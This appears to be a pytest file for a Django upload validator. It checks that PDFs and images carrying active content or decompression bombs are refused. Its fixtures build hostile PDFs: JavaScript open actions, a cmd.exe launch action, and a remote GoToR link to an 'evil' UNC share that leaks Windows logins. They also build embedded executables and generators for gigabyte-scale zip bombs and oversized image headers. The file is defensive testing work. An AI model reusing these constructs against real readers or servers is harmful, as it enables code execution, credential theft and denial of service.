"""A material that could run something in the clerk's PDF reader, or expand into gigabytes, is refused while read."""

from __future__ import annotations

import functools
import io
import struct
import zlib
from collections.abc import Iterator

import pytest

from django.core.exceptions import ValidationError
from django.utils import translation

from govhall.lib.uploads import image_dimensions, inspect_upload

MB = 1024 * 1024
ACTIVE = "含有脚本、自动执行的动作或嵌入文件，为安全起见不予接收。请另存为（或打印为）普通 PDF 后再上传。"
BOMB = "解压后的内容大得异常，可能是被恶意构造的文件（“解压炸弹”），不予接收。"


def raw_pdf(*objects: bytes, streams: dict[int, bytes] | None = None) -> bytes:
    """A PDF of numbered objects (1 is the catalog), with a correct cross-reference table.

    ``streams`` gives an object's stream data: the object is then its dictionary followed by
    the data, with the data's length.
    """
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number)
        data = (streams or {}).get(number)
        if data is None:
            out.write(body)
        else:
            out.write(body.replace(b"/LENGTH", b"/Length %d" % len(data)))
            out.write(b"\nstream\n")
            out.write(data)
            out.write(b"\nendstream")
        out.write(b"\nendobj\n")
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start))
    return out.getvalue()


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


def refusal(data: bytes, name: str = "材料.pdf", **bounds: int) -> str:
    """The message an applicant sees for ``data``, or "" when it is accepted."""
    try:
        with translation.override("zh-hans"):
            inspect_upload(io.BytesIO(data), name=name, size=len(data), max_bytes=20 * MB, max_pages=200, **bounds)  # type: ignore[arg-type]
    except ValidationError as error:
        return " ".join(error.messages)
    return ""


def test_a_plain_pdf_is_accepted() -> None:
    assert refusal(raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE)) == ""


@pytest.mark.parametrize(
    "catalog",
    [
        # A script run when the file opens:
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
        # The same, its name spelled with an escape, which a reader decodes:
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /JS (app.alert(1)) >> >>",
        # A program launched when the file opens:
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>",
        # A document-level script in the names tree:
        b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >> >>",
        # An additional action on the document (when it closes):
        b"<< /Type /Catalog /Pages 2 0 R /AA << /WC << /S /JavaScript /JS (x) >> >> >>",
        # An XFA form:
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA (<xdp/>) >> >>",
        # A link that opens a file on another machine (and hands it the clerk's Windows login):
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit] >> >>",
    ],
    ids=["open-action-js", "escaped-name", "launch", "names-tree-js", "document-aa", "xfa", "remote-goto"],
)
def test_a_pdf_that_can_run_something_is_refused_with_a_clear_message(catalog: bytes) -> None:
    assert refusal(raw_pdf(catalog, PAGES, PAGE)) == f"文件“材料.pdf”{ACTIVE}"


def test_a_script_on_a_link_that_no_page_shows_is_found_too() -> None:
    # Object 4 is listed in the file but no page refers to it; a reader may still find it:
    pdf = raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        PAGES,
        PAGE,
        b"<< /Type /Annot /Subtype /Link /A 5 0 R >>",
        b"<< /S /JavaScript /JS 6 0 R >>",
        b"(app.launchURL('x'))",
    )
    assert ACTIVE in refusal(pdf)


def test_a_pdf_with_an_embedded_file_is_refused() -> None:
    embedded = raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >> >>",
        PAGES,
        PAGE,
        b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
        b"<< /Type /EmbeddedFile /LENGTH >>",
        streams={5: b"MZ\x90\x00"},
    )
    assert ACTIVE in refusal(embedded)
    attachment = raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [<< /Subtype /FileAttachment /FS 5 0 R >>] >>",
        b"null",
        b"<< /Type /Filespec /F (a.docm) >>",
    )
    assert ACTIVE in refusal(attachment)


def test_a_pdf_with_rich_media_is_refused() -> None:
    pdf = raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
        b"<< /Type /Annot /Subtype /RichMedia /RichMediaContent << /Assets << >> >> >>",
    )
    assert ACTIVE in refusal(pdf)


def test_a_pdf_made_by_pypdf_with_an_open_action_script_is_refused() -> None:
    from pypdf import PdfWriter
    from pypdf.actions import JavaScript

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_open_action(JavaScript("this.print({bUI:true});"))
    buffer = io.BytesIO()
    writer.write(buffer)
    assert ACTIVE in refusal(buffer.getvalue())


def test_the_refusal_is_in_english_for_an_english_reader() -> None:
    data = raw_pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (1) >> >>", PAGES, PAGE)
    with translation.override("en"), pytest.raises(ValidationError) as error:
        inspect_upload(io.BytesIO(data), name="a.pdf", size=len(data), max_bytes=20 * MB, max_pages=200)
    assert "script" in error.value.messages[0] and "plain PDF" in error.value.messages[0]


def zeros_deflated(total: int, level: int = 4) -> Iterator[bytes]:
    """``total`` zero bytes compressed, in pieces: never more than one MB of zeros at a time."""
    compressor = zlib.compressobj(level)
    piece = bytes(MB)
    for _ in range(total // MB):
        yield compressor.compress(piece)
    yield compressor.compress(bytes(total % MB))
    yield compressor.flush()


@functools.cache
def gigabyte_bomb() -> bytes:
    """A small PDF (about 1 MB) whose one content stream inflates to 1 GiB."""
    deflated = b"".join(zeros_deflated(1024 * MB))
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Filter /FlateDecode /LENGTH >>",
        streams={4: deflated},
    )


def test_a_stream_that_inflates_to_a_gigabyte_is_refused_without_inflating_it() -> None:
    bomb = gigabyte_bomb()
    assert len(bomb) < 2 * MB
    assert refusal(bomb) == f"文件“材料.pdf”{BOMB}"


def test_a_bomb_in_two_layers_of_compression_is_refused_too() -> None:
    inner = b"".join(zeros_deflated(256 * MB))
    outer = zlib.compress(inner, 9)
    pdf = raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Filter [/FlateDecode /FlateDecode] /LENGTH >>",
        streams={4: outer},
    )
    assert len(pdf) < MB and BOMB in refusal(pdf)


def test_a_stream_within_its_bound_is_accepted_and_many_together_are_not() -> None:
    streams = {4 + n: b"".join(zeros_deflated(2 * MB)) for n in range(3)}
    pdf = raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [4 0 R 5 0 R 6 0 R] >>",
        *[b"<< /Filter /FlateDecode /LENGTH >>"] * 3,
        streams=streams,
    )
    assert refusal(pdf, max_stream_bytes=3 * MB) == ""
    assert BOMB in refusal(pdf, max_stream_bytes=3 * MB, max_expanded_bytes=5 * MB)


def test_an_image_in_a_pdf_larger_than_it_says_or_than_allowed_is_refused() -> None:
    def with_image(width: int, height: int, data: bytes) -> bytes:
        return raw_pdf(
            b"<< /Type /Catalog /Pages 2 0 R >>",
            PAGES,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im 4 0 R >> >> >>",
            b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8 "
            b"/Filter /FlateDecode /LENGTH >>" % (width, height),
            streams={4: data},
        )

    assert refusal(with_image(100, 100, zlib.compress(bytes(10_000)))) == ""
    # Says 100×100, inflates to 200 MB:
    assert BOMB in refusal(with_image(100, 100, b"".join(zeros_deflated(200 * MB))))
    # Says 30000×30000: refused from the numbers, whatever the data:
    assert BOMB in refusal(with_image(30000, 30000, zlib.compress(bytes(100))))


def test_a_scanned_page_as_reportlab_writes_it_is_accepted_and_a_bomb_behind_ascii85_is_not() -> None:
    import base64

    from PIL import Image
    from reportlab.lib.utils import ImageReader
    from reportlab.pdfgen import canvas

    # A scanned page: an image stream in ASCII85 before Flate, as reportlab writes it uncompressed:
    page = io.BytesIO()
    pdf = canvas.Canvas(page, pageCompression=0)
    pdf.drawImage(ImageReader(Image.frombytes("RGB", (233, 233), (bytes(range(256)) * 640)[: 233 * 233 * 3])), 72, 200)
    pdf.showPage()
    pdf.save()
    assert b"/ASCII85Decode" in page.getvalue()
    assert refusal(page.getvalue()) == ""

    # The same chain, but a 100×100 image that inflates to 200 MB:
    bomb = base64.a85encode(b"".join(zeros_deflated(200 * MB))) + b"~>"
    pdf_bomb = raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        PAGES,
        PAGE,
        b"<< /Type /XObject /Subtype /Image /Width 100 /Height 100 /ColorSpace /DeviceGray /BitsPerComponent 8 "
        b"/Filter [/ASCII85Decode /FlateDecode] /LENGTH >>",
        streams={4: bomb},
    )
    assert BOMB in refusal(pdf_bomb)


def png(width: int, height: int) -> bytes:
    """A valid PNG header for a grey image of ``width``×``height`` and a tiny all-zero IDAT."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")
    )


def test_a_png_of_30000_by_30000_pixels_is_refused_from_its_header() -> None:
    data = png(30000, 30000)
    assert len(data) < 100
    assert image_dimensions(io.BytesIO(data), "image/png") == (30000, 30000)
    assert refusal(data, name="扫描件.png") == (
        "图片“扫描件.png”尺寸过大（30000×30000 像素），单张图片不能超过 100 百万像素。请缩小后再上传。"
    )
    assert refusal(png(2480, 3508), name="扫描件.png") == ""  # an A4 page at 300 dpi


def test_a_jpeg_is_measured_from_its_frame_header() -> None:
    def jpeg(width: int, height: int) -> bytes:
        app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
        frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
        return b"\xff\xd8" + app0 + frame + b"\xff\xda" + b"\x00" * 64 + b"\xff\xd9"

    assert image_dimensions(io.BytesIO(jpeg(65000, 65000)), "image/jpeg") == (65000, 65000)
    assert "尺寸过大（65000×65000 像素）" in refusal(jpeg(65000, 65000), name="a.jpg")
    assert refusal(jpeg(1200, 1600), name="a.jpg") == ""


def test_an_image_without_a_readable_header_is_called_damaged() -> None:
    broken = b"\x89PNG\r\n\x1a\n" + b"\x00" * 40
    assert refusal(broken, name="a.png") == "文件“a.png”已损坏，无法打开。"
